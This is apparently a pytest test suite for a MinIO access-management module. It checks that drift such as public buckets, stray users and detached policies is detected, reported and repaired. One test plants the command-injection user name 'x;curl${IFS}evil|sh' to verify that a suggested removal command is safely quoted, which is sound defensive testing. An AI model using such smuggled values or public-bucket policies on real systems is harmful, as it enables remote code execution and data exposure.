"""A whole document: its order, what it removes, the deviations that it finds and fixes, and what it costs."""

from __future__ import annotations

import copy
import json
import shlex
import time

import pytest
import requests
from botocore.exceptions import ClientError

SECRET = "horse-battery-staple"


def policy(bucket, *actions):
    statement = {"Effect": "Allow", "Action": list(actions), "Resource": [f"arn:aws:s3:::{bucket}/*"]}
    return {"Version": "2012-10-17", "Statement": [statement]}


DOCUMENT = {
    "policies": [
        {"name": "read", "policy": policy("results", "s3:GetObject")},
        {"name": "write", "policy": policy("results", "s3:PutObject", "s3:DeleteObject")},
    ],
    "buckets": [
        {
            "name": "results",
            "versioning": True,
            "quota": "1GiB",
            "tags": {"team": "vision"},
            "lifecycle": [{"id": "old", "expire_days": 30}],
            "encryption": "sse-s3",
            "anonymous": "none",
        },
        {"name": "locked", "object_lock": True, "retention": {"mode": "governance", "days": 1}},
    ],
    "users": [
        {"name": "reader", "secret": SECRET, "policies": ["read"], "enabled": True},
        {"name": "writer", "secret": SECRET, "policies": ["read", "write"], "enabled": True},
        {"name": "guest", "secret": SECRET},
    ],
    "groups": [{"name": "team", "members": ["reader", "writer"], "policies": ["read"], "enabled": True}],
    "service_accounts": [
        {
            "name": "nightly-key",
            "secret": SECRET,
            "parent": "writer",
            "policy": policy("results", "s3:PutObject"),
            "description": "nightly",
            "enabled": True,
        }
    ],
    "prune": True,
    "prune_except": ["user kept-*"],
}


def disorders(minio):
    """Return name, manual change, and the objects that then differ."""
    admin, s3 = minio.admin, minio.s3()
    enabled, suspended = {"Status": "Enabled"}, {"Status": "Suspended"}
    rule = {"ID": "other", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}, **enabled}
    anyone = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::results/*"}
    public = json.dumps({"Version": "2012-10-17", "Statement": [anyone]})
    stray = policy("results", "s3:GetObject")

    def stray_attached_policy():
        admin.policy_add("stray-held", policy=stray)
        admin.attach_policy(["stray-held"], user="reader")

    def stranger_in_group():
        admin.user_add("stranger", SECRET)
        admin.group_add("team", ["stranger"])

    def stray_group():
        admin.group_add("stray-team", ["reader"])

    return [
        ("policy edited", lambda: admin.policy_add("read", policy=policy("results", "s3:*")), ["policy read"]),
        ("policy detached", lambda: admin.detach_policy(["read"], user="reader"), ["user reader"]),
        ("policy attached", lambda: admin.attach_policy(["write"], user="reader"), ["user reader"]),
        ("policy of a group detached", lambda: admin.detach_policy(["read"], group="team"), ["group team"]),
        ("policy of a group attached", lambda: admin.attach_policy(["write"], group="team"), ["group team"]),
        ("stray policy", lambda: admin.policy_add("stray", policy=stray), ["policy stray"]),
        ("stray policy, attached", stray_attached_policy, ["user reader", "policy stray-held"]),
        ("user disabled", lambda: admin.user_disable("reader"), ["user reader"]),
        ("user removed", lambda: admin.user_remove("reader"), ["user reader", "group team"]),
        ("secret changed", lambda: admin.user_add("writer", "another-horse"), ["user writer"]),
        ("stray user", lambda: admin.user_add("stray-user", SECRET), ["user stray-user"]),
        ("member removed", lambda: admin.group_remove("team", ["reader"]), ["user reader", "group team"]),
        ("group disabled", lambda: admin.group_disable("team"), ["group team"]),
        ("stray group", stray_group, ["user reader", "group stray-team"]),
        ("policy of a user without any", lambda: admin.attach_policy(["write"], user="guest"), ["user guest"]),
        ("stranger in a group", stranger_in_group, ["group team", "user stranger"]),
        ("quota off", lambda: admin.bucket_quota_clear("results"), ["bucket results"]),
        (
            "versioning suspended",
            lambda: s3.put_bucket_versioning(Bucket="results", VersioningConfiguration=suspended),
            ["bucket results"],
        ),
        ("tags removed", lambda: s3.delete_bucket_tagging(Bucket="results"), ["bucket results"]),
        (
            "lifecycle replaced",
            lambda: s3.put_bucket_lifecycle_configuration(Bucket="results", LifecycleConfiguration={"Rules": [rule]}),
            ["bucket results"],
        ),
        ("encryption off", lambda: s3.delete_bucket_encryption(Bucket="results"), ["bucket results"]),
        ("made public", lambda: s3.put_bucket_policy(Bucket="results", Policy=public), ["bucket results"]),
        (
            "made public, with nothing said of it",
            lambda: s3.put_bucket_policy(Bucket="locked", Policy=public.replace("results", "locked")),
            ["bucket locked"],
        ),
        (
            "retention lifted",
            lambda: s3.put_object_lock_configuration(
                Bucket="locked", ObjectLockConfiguration={"ObjectLockEnabled": "Enabled"}
            ),
            ["bucket locked"],
        ),
        ("stray empty bucket", lambda: s3.create_bucket(Bucket="stray-bucket"), ["bucket stray-bucket"]),
        (
            "service account without its policy",
            lambda: admin.update_service_account(access_key="nightly-key", description="changed"),
            ["service account nightly-key"],
        ),
        (
            "service account of root",
            lambda: admin.add_service_account(access_key="stray-key", secret_key=SECRET),
            ["service account stray-key"],
        ),
        (
            "service account removed",
            lambda: admin.delete_service_account("nightly-key"),
            ["service account nightly-key"],
        ),
    ]


@pytest.fixture
def tidy(run):
    run("minio_access", **DOCUMENT)


def test_document_is_applied_in_one_run(minio, converges):
    converges("minio_access", lambda: (set(minio.policies()), minio.users()), **DOCUMENT)
    assert minio.users()["writer"]["policyName"].split(",") == ["read", "write"]
    minio.s3().put_object(Bucket="results", Key="x", Body=b"bytes")
    assert minio.s3("reader", SECRET).get_object(Bucket="results", Key="x")["Body"].read() == b"bytes"
    with pytest.raises(ClientError, match="AccessDenied"):
        minio.s3("nightly-key", SECRET).get_object(Bucket="results", Key="x")


@pytest.mark.fleet  # below, all at once
@pytest.mark.parametrize("index", range(28))
def test_disorder_is_named_mended_and_gone(minio, tidy, run, index):
    name, make, differing = disorders(minio)[index]
    make()
    predicted = run("minio_access", True, **DOCUMENT)
    print(f"{name}: {', '.join(predicted.changes)}")
    assert predicted.changes == differing, name
    assert run("minio_access", **DOCUMENT).changes == differing
    assert not run("minio_access", **DOCUMENT).changed


def test_all_disorders_at_once(minio, tidy, run):
    made = disorders(minio)
    # Those that undo another, or need what another removes, were tested separately.
    left_out = {"user removed", "policy detached", "policy of a group detached", "service account removed"}
    differing = set()
    for name, make, labels in made:
        if name not in left_out:
            make()
            differing |= set(labels)
    assert set(run("minio_access", True, **DOCUMENT).changes) == differing
    assert set(run("minio_access", **DOCUMENT).changes) == differing
    assert not run("minio_access", **DOCUMENT).changed


def test_what_is_excepted_or_not_empty_stays(minio, tidy, run):
    minio.admin.policy_add("of-kept", policy=policy("results", "s3:GetObject"))
    minio.admin.user_add("kept-backup", SECRET)
    minio.admin.attach_policy(["of-kept"], user="kept-backup")
    minio.s3().create_bucket(Bucket="has-objects")
    minio.s3().put_object(Bucket="has-objects", Key="object", Body=b"bytes")
    assert not run("minio_access", **DOCUMENT).changed
    assert "kept-backup" in minio.users() and "of-kept" in minio.policies()


def test_nothing_is_removed_without_prune(minio, tidy, run):
    minio.admin.user_add("stray-user", SECRET)
    assert not run("minio_access", **DOCUMENT | {"prune": False}).changed
    assert "stray-user" in minio.users()


def test_open_bucket_that_nobody_declared_is_told(minio, tidy, run):
    s3, anyone = minio.s3(), {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}
    s3.create_bucket(Bucket="open-stray")
    s3.put_object(Bucket="open-stray", Key="object", Body=b"bytes")
    statement = anyone | {"Resource": "arn:aws:s3:::open-stray/*"}
    s3.put_bucket_policy(Bucket="open-stray", Policy=json.dumps({"Version": "2012-10-17", "Statement": [statement]}))
    assert requests.get(f"{minio.endpoint}/open-stray/object").status_code == 200
    for kept in ([], ["bucket open-*"]):  # a bucket that may exist must still not be open
        told = run("minio_access", True, **DOCUMENT | {"prune_except": [*DOCUMENT["prune_except"], *kept]}).undeclared
        remove = "mc anonymous set none ALIAS/open-stray"
        assert {"kind": "MinIO bucket open to everybody", "name": "open-stray", "remove": remove} in told
    s3.delete_bucket_policy(Bucket="open-stray")
    assert all("open" not in each["kind"] for each in run("minio_access", True, **DOCUMENT).undeclared)


def test_command_to_copy_does_what_it_says(minio, tidy, run):
    name = "x;curl${IFS}evil|sh"
    minio.admin.user_add(name, SECRET)
    (told,) = [
        each for each in run("minio_access", True, **DOCUMENT | {"prune": False}).undeclared if each["name"] == name
    ]
    assert shlex.split(told["remove"]) == ["mc", "admin", "user", "remove", "ALIAS", name]


def test_error_in_the_document_stops_before_the_first_change(minio, tidy, run):
    wrong = copy.deepcopy(DOCUMENT)
    wrong["policies"][0]["policy"] = policy("results", "s3:PutObject")
    wrong["service_accounts"][0]["parent"] = "nobody-known"
    for check in (True, False):
        assert "user 'nobody-known' does not exist" in run("minio_access", check, fails=True, **wrong).msg
    assert minio.policies()["read"]["Statement"][0]["Action"] == ["s3:GetObject"]


def test_info_tells_everything_but_secrets(minio, tidy, run):
    info = run("minio_info")
    assert {"read", "write"} <= set(info.policies)
    assert info.buckets["results"]["quota"] == 1024**3 and info.buckets["results"]["tags"] == {"team": "vision"}
    assert info.users["reader"] == {"status": "enabled", "policies": ["read"], "groups": ["team"]}
    assert info.groups["team"] == {"status": "enabled", "policies": ["read"], "members": ["reader", "writer"]}
    assert info.service_accounts["nightly-key"]["parent"] == "writer"
    assert info.server["version"] and info.server["drives"] == {"online": 4, "offline": 0}
    assert SECRET not in json.dumps(vars(info))
    assert not hasattr(run("minio_info", gather=["buckets"]), "users")
    assert not info.changed


def test_large_document_is_one_quick_task(minio, run):
    """50 policies, 100 users, 20 buckets. The time is not asserted, only printed."""
    large = {
        "policies": [{"name": f"p{i}", "policy": policy("large-0", "s3:GetObject")} for i in range(50)],
        "users": [{"name": f"user-{i}", "secret": f"{SECRET}{i}", "policies": [f"p{i % 50}"]} for i in range(100)],
        "buckets": [{"name": f"large-{i}", "versioning": True, "quota": "1GiB", "tags": {"n": i}} for i in range(20)],
    }
    assert run("minio_access", **large).changed
    start = time.monotonic()
    assert not run("minio_access", **large).changed
    print(f"no-op on 50 policies, 100 users and 20 buckets: {time.monotonic() - start:.2f} s")
